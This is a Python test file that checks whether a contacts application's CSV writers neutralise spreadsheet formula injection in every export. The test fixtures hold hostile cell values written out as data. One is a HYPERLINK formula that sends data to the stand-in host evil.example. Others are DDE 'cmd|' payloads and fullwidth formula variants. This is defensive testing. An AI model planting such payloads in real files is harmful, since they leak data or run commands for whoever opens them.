"""No CSV relbook writes holds a cell a spreadsheet would run as a formula: the shared
writer (hypothesis against a separate definition of "formula-like"), every writer end to
end with hostile text in every field, and no module with a csv.writer of its own."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from relbook.services import csv_safe, staff
from relbook.services.contacts.inputs import ContactInput, DetailInput, EmailInput, PhoneInput
from relbook.services.counter import sales
from relbook.services.import_export import export
from relbook.services.import_export.parsed import ParsedRow
from relbook.services.import_export.preview import build_preview
from relbook.services.staff import audit

ROOT = Path(__file__).resolve().parents[2] / "relbook"

#: what Excel, LibreOffice and Google Sheets may run: = + - @ (ASCII, fullwidth, small),
#: tab / CR / LF, after any spaces (ideographic too)
DANGEROUS_FIRST = "=+-@\t\r\n＝＋－＠﹦﹢﹣﹫"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1+2",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "﹦1+1",
]


def formula_like(cell: str) -> bool:
    """Independent of the implementation: would a spreadsheet try to evaluate it?"""
    stripped = cell.lstrip(" \u00a0\u3000")
    if not stripped or stripped[0] not in DANGEROUS_FIRST:
        return False
    return not re.fullmatch(r"-?\d+([.,]\d+)*", cell, flags=re.ASCII)


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


# -- the shared helper ------------------------------------------------------------------

texts = st.one_of(
    st.text(max_size=40),
    st.tuples(st.sampled_from([*DANGEROUS_FIRST, " ", "\u3000", "'"]), st.text(max_size=20)).map(
        "".join
    ),
)


@settings(max_examples=1000, deadline=None)
@given(texts)
def test_no_safe_cell_is_formula_like_and_the_import_gets_the_text_back(text: str) -> None:
    cell = csv_safe.safe_cell(text)
    assert not formula_like(cell)
    assert csv_safe.unformula(cell) == text


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(texts, min_size=1, max_size=5), min_size=1, max_size=5))
def test_the_writer_neutralises_every_cell_of_every_row(rows: list[list[str]]) -> None:
    out = io.StringIO()
    csv_safe.writer(out).writerows(rows)
    written = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert not any(formula_like(c) for r in written for c in r)
    assert [[csv_safe.unformula(c) for c in r] for r in written] == rows


def test_numbers_stay_numbers() -> None:
    assert [csv_safe.safe_cell(v) for v in (-150, 4.5, "-4.20", "-1,5", "12")] == [
        "-150",
        "4.5",
        "-4.20",
        "-1,5",
        "12",
    ]
    assert csv_safe.safe_cell("-1+1") == "'-1+1"


# -- every writer, end to end -----------------------------------------------------------


@pytest.fixture
def hostile_contact(db) -> int:
    from relbook.services import contacts

    data = ContactInput(
        given_name=HOSTILE[0],
        family_name=HOSTILE[4],
        nickname=HOSTILE[2],
        company=HOSTILE[3],
        street=HOSTILE[10],
        city=HOSTILE[11],
        how_met=HOSTILE[12],
        notes=HOSTILE[8],
        phones=[PhoneInput("+1 503 555 0100")],
        emails=[EmailInput("x@example.com")],
        details=[DetailInput("interest", HOSTILE[1])],
        tags=["＋tag"],
    )
    return contacts.create_contact(data).contact_id


def test_contacts_export_csv_has_no_formula_cell(hostile_contact) -> None:
    text = export.export_text("csv")
    found = cells(text)
    assert not [c for c in found if formula_like(c)]
    assert "'" + HOSTILE[4] in found  # the fullwidth ＝ that once passed


def test_sales_history_csv_has_no_formula_cell(hostile_contact, tmp_path) -> None:
    from relbook.services import plugins

    plugins.load_all()
    clerk = staff.add_staff("=cmd|' /C calc'!A0")
    for note in HOSTILE[:6]:
        sales.record_sale(hostile_contact, 1250, staff_id=clerk, note=note)
    text = sales.history_csv_text(hostile_contact)
    found = cells(text)
    assert not [c for c in found if formula_like(c)]
    assert "'" + HOSTILE[0] in found and "'=cmd|' /C calc'!A0" in found


def test_import_rejected_rows_csv_has_no_formula_cell(db) -> None:
    rows = [
        ParsedRow("=HYPERLINK(evil).csv", "+line 2", error=HOSTILE[0]),
        ParsedRow("＝x.vcf", "@card 3", error="－1+1"),
    ]
    text = build_preview(rows).rejected_csv()
    found = cells(text)
    assert len(found) == 3 + 6
    assert not [c for c in found if formula_like(c)]


def test_audit_csv_has_no_formula_cell(db) -> None:
    owner = staff.add_staff("@owner", role="owner")
    audit.record("merge", staff_id=owner, subject=HOSTILE[0], after={"x": 1})
    found = cells(audit.to_csv(audit.entries()))
    assert "'" + HOSTILE[0] in found
    assert not [c for c in found if formula_like(c)]


def test_no_module_writes_csv_without_the_shared_writer() -> None:
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if path.name != "csv_safe.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(st.lists(texts.filter(lambda t: t.strip()), min_size=3, max_size=3))
def test_any_contact_text_exports_as_safe_csv(db, fields: list[str]) -> None:
    from relbook.errors import ValidationError
    from relbook.services import contacts

    data = ContactInput(given_name=fields[0], company=fields[1], notes=fields[2])
    try:
        contacts.create_contact(data)
    except ValidationError:
        return  # refused (e.g. nothing left of the name once cleaned): nothing to export
    assert not [c for c in cells(export.export_text("csv")) if formula_like(c)]
